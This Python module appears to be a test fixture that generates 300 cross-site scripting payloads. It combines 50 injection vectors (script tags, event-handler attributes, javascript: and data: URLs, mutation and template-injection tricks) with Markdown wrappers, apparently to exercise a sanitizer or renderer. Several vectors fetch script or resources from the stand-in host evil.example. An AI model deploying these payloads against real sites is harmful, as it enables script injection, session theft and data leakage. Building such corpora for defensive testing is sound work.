"""300 texts that would run a script, or ask elsewhere for something, on a page that took them."""

from __future__ import annotations

import itertools

__all__ = ["PAYLOADS"]

RUN = "owned=1"
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    "<script src=http://evil.example/x.js></script>",
    "<script type=module src=//evil.example/x.mjs></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img src=`x` onerror=`{RUN}`>",
    "<img src=http://evil.example/pixel.png>",
    "<img srcset='http://evil.example/a.png 1x'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<a href='javascript:{RUN}'>press</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>press</a>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></math>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>body{background:url(http://evil.example/b.png)}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><button>x</button></form>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<div style=\"background:url('javascript:{RUN}')\">x</div>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"[press](javascript:{RUN})",
    f"[press](java\tscript:{RUN})",
    f"<javascript:{RUN}>",
    "![picture](http://evil.example/p.png)",
    "[a]: http://evil.example/ 'x'\n[a]",
    f'![x](y"onerror="{RUN})',
    f"<template><script>{RUN}</script></template>",
    f"<a id=at name=at href=x onclick={RUN}>clobber</a>",
    f"<x onpointerenter={RUN} contenteditable autofocus tabindex=1 onfocus={RUN}>x</x>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
)
AROUND = (
    "{}",
    "# {}",
    "1. {}\n2. **{}**",
    "> {}",
    "```{}\n{}\n```",
    "`` {} `` and *{}*",
)
PAYLOADS = tuple(
    around.replace("{}", element) for element, around in itertools.product(ELEMENTS, AROUND)
)
